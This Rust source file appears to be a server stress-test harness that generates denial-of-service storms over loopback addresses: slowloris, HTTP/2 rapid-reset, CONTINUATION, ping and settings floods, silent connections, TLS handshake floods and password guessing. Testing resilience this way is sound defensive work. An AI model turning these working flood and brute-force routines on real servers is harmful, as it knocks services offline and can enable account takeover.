//! Storms: what W6 throws at a server. A process of its own with low priority, so that what it takes to make the storm is
//! not taken for what the server needs to bear it.

use std::net::{Ipv4Addr, SocketAddr};
use std::path::PathBuf;
use std::sync::Arc;
use std::sync::atomic::{AtomicU32, AtomicU64, Ordering};
use std::time::Duration;

use bytes::Bytes;
use rustls::client::Resumption;
use rustls::pki_types::pem::PemObject;
use rustls::pki_types::{CertificateDer, ServerName};
use rustls::{ClientConfig, RootCertStore};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};
use tokio::task::JoinSet;
use tokio::time::{Instant, sleep, timeout_at};
use tokio_rustls::TlsConnector;

use crate::Result;
use crate::client::Target;

/// What a storm consists of.
#[derive(Clone, Copy, Debug, PartialEq, Eq, clap::ValueEnum)]
pub(crate) enum Kind {
    /// Ten thousand connections that never speak.
    Silence,
    /// Connections that begin HTTP/2 and go away.
    Churn,
    /// Requests whose headers come byte by byte.
    Slowloris,
    /// Streams opened and reset.
    RapidReset,
    /// Window updates of nothing.
    ZeroWindow,
    /// Headers without an end.
    Continuation,
    /// Pings.
    Ping,
    /// Settings.
    Settings,
    /// Wrong passwords.
    Passwords,
    /// TLS handshakes that lead to nothing.
    Handshakes,
}

/// Options of the process.
#[derive(Clone, Debug, clap::Args)]
pub(crate) struct Settings {
    #[arg(long)]
    pub(crate) target: SocketAddr,
    #[arg(long, value_enum)]
    pub(crate) kind: Kind,
    /// PEM file of the authority, for handshakes.
    #[arg(long)]
    pub(crate) ca: Option<PathBuf>,
    /// Each connection from another address.
    #[arg(long)]
    pub(crate) everywhere: bool,
    #[arg(long)]
    pub(crate) millis: u64,
}

/// Connections of a storm of silence.
const SILENT: u64 = 10_000;
/// Connections at the same time of all others.
const AT_ONCE: usize = 32;
/// Where a storm comes from unless it comes from everywhere. The good client is 127.0.0.1.
const ADDRESS: Ipv4Addr = Ipv4Addr::new(127, 0, 0, 2);

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";

/// What all connections of a storm share.
#[derive(Debug)]
struct Storm {
    settings: Settings,
    end: Instant,
    connections: AtomicU64,
    bytes: AtomicU64,
    addresses: AtomicU32,
}

/// Storms until the time is over, then prints the connections made and the bytes sent.
pub(crate) async fn run(settings: Settings) -> Result<()> {
    let mut files = rustix::process::getrlimit(rustix::process::Resource::Nofile);
    files.current = files.maximum;
    rustix::process::setrlimit(rustix::process::Resource::Nofile, files)?;
    let end = Instant::now() + Duration::from_millis(settings.millis);
    let counts = (AtomicU64::new(0), AtomicU64::new(0), AtomicU32::new(0));
    let storm = Arc::new(Storm { settings, end, connections: counts.0, bytes: counts.1, addresses: counts.2 });
    let mut tasks = JoinSet::new();
    if storm.settings.kind == Kind::Silence {
        storm.silence(&mut tasks).await;
    } else {
        let tls = storm.settings.ca.as_ref().map(tls).transpose()?;
        for _ in 0..AT_ONCE {
            let (storm, tls) = (storm.clone(), tls.clone());
            tasks.spawn(async move {
                while Instant::now() < storm.end {
                    // Refused or reset: that is what the server is there for.
                    if timeout_at(storm.end, storm.one(tls.as_ref())).await.is_ok_and(|outcome| outcome.is_err()) {
                        sleep(Duration::from_micros(200)).await;
                    }
                }
            });
        }
    }
    while tasks.join_next().await.is_some() {}
    println!("{} {}", storm.connections.load(Ordering::Relaxed), storm.bytes.load(Ordering::Relaxed));
    Ok(())
}

impl Storm {
    /// Opens connections evenly over the time there is, and holds those that the server leaves open.
    async fn silence(self: &Arc<Self>, tasks: &mut JoinSet<()>) {
        let pause = Duration::from_millis(self.settings.millis) / (SILENT as u32) / 2;
        let begun = Instant::now();
        for number in 0..SILENT {
            let storm = self.clone();
            tasks.spawn(async move {
                if let Ok(mut stream) = storm.connect().await {
                    let mut byte = [0];
                    let _ = timeout_at(storm.end, stream.read(&mut byte)).await;
                }
            });
            tokio::time::sleep_until(begun + pause * number as u32).await;
            if Instant::now() > self.end {
                break;
            }
        }
    }

    async fn connect(&self) -> Result<TcpStream> {
        let socket = TcpSocket::new_v4()?;
        socket.bind((self.address(), 0).into())?;
        let stream = socket.connect(self.settings.target).await?;
        self.connections.fetch_add(1, Ordering::Relaxed);
        Ok(stream)
    }

    fn address(&self) -> Ipv4Addr {
        if !self.settings.everywhere {
            return ADDRESS;
        }
        let [_, a, b, c] = self.addresses.fetch_add(1, Ordering::Relaxed).to_be_bytes();
        Ipv4Addr::new(127, a.wrapping_add(1), b, c.max(1))
    }

    /// One connection, to its end.
    async fn one(&self, tls: Option<&TlsConnector>) -> Result<()> {
        match self.settings.kind {
            Kind::Silence => Ok(()),
            Kind::Churn => {
                self.connect().await?.write_all(PREFACE).await?;
                Ok(())
            }
            Kind::Slowloris => self.slowloris().await,
            Kind::Passwords => self.passwords().await,
            Kind::Handshakes => {
                let stream = self.connect().await?;
                let tls = tls.ok_or("handshakes need --ca")?;
                tls.connect(ServerName::try_from("localhost")?, stream).await?;
                Ok(())
            }
            Kind::RapidReset | Kind::ZeroWindow | Kind::Continuation | Kind::Ping | Kind::Settings => {
                self.flood().await
            }
        }
    }

    async fn slowloris(&self) -> Result<()> {
        let mut stream = self.connect().await?;
        stream.write_all(PREFACE).await?;
        // The head of a frame whose content never comes.
        let head: Vec<u8> = frame(1, 0, 1, &[0; 16_000]).into_iter().take(9).collect();
        stream.write_all(&head).await?;
        loop {
            sleep(Duration::from_millis(50)).await;
            stream.write_all(&[0x40]).await?;
            self.bytes.fetch_add(1, Ordering::Relaxed);
        }
    }

    async fn passwords(&self) -> Result<()> {
        let number = self.connections.fetch_add(1, Ordering::Relaxed);
        let target = Target::plain(&self.settings.target.to_string())?.from(self.address());
        let session = target.connect().await?;
        for guess in 0_u64.. {
            // The same name, or another one each time.
            let user = if number.is_multiple_of(2) { "eve".to_owned() } else { format!("eve{number}-{guess}") };
            let mut session = session.clone().login(&user, &format!("guess{guess}"))?;
            match session.capabilities().await {
                Ok(_) => return Err("a guess was right".into()),
                Err(_) => self.bytes.fetch_add(1, Ordering::Relaxed),
            };
        }
        Ok(())
    }

    /// Frames as fast as the server takes them.
    async fn flood(&self) -> Result<()> {
        let (mut reader, mut writer) = self.connect().await?.into_split();
        let reading = tokio::spawn(async move {
            let mut sink = vec![0; 64 * 1024];
            while reader.read(&mut sink).await.is_ok_and(|length| length > 0) {}
        });
        writer.write_all(PREFACE).await?;
        if self.settings.kind == Kind::Continuation {
            writer.write_all(&frame(1, 0, 1, &[0x83])).await?;
        }
        let mut stream = 1;
        let outcome = loop {
            let frames = self.frames(&mut stream);
            if let Err(error) = writer.write_all(&frames).await {
                break Err(error.into());
            }
            self.bytes.fetch_add(frames.len() as u64, Ordering::Relaxed);
        };
        reading.abort();
        outcome
    }

    /// About 16 KiB of them.
    fn frames(&self, stream: &mut u32) -> Bytes {
        let mut frames = Vec::with_capacity(17_000);
        while frames.len() < 16_000 {
            match self.settings.kind {
                Kind::RapidReset => {
                    // `:method POST`, `:scheme http`, `:path /x`, `:authority x`.
                    frames.extend(frame(1, 4, *stream, &[0x83, 0x86, 0x44, 2, b'/', b'x', 0x41, 1, b'x']));
                    frames.extend(frame(3, 0, *stream, &[0, 0, 0, 8]));
                    *stream += 2;
                }
                Kind::ZeroWindow => frames.extend(frame(8, 0, 0, &[0; 4])),
                Kind::Continuation => frames.extend(frame(9, 0, 1, &[0x00, 1, b'a', 1, b'b'])),
                Kind::Settings => frames.extend(frame(4, 0, 0, &[0, 3, 0, 0, 0, 100])),
                _ => frames.extend(frame(6, 0, 0, &[7; 8])),
            }
        }
        frames.into()
    }
}

/// A frame of HTTP/2.
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = (payload.len() as u32).to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// A TLS client that makes a full handshake each time.
fn tls(ca: &PathBuf) -> Result<TlsConnector> {
    let mut roots = RootCertStore::empty();
    roots.add(CertificateDer::from_pem_file(ca)?)?;
    let provider = Arc::new(rustls::crypto::aws_lc_rs::default_provider());
    let builder = ClientConfig::builder_with_provider(provider).with_safe_default_protocol_versions()?;
    let mut config = builder.with_root_certificates(roots).with_no_client_auth();
    config.resumption = Resumption::disabled();
    config.alpn_protocols = vec![b"h2".to_vec()];
    Ok(TlsConnector::from(Arc::new(config)))
}
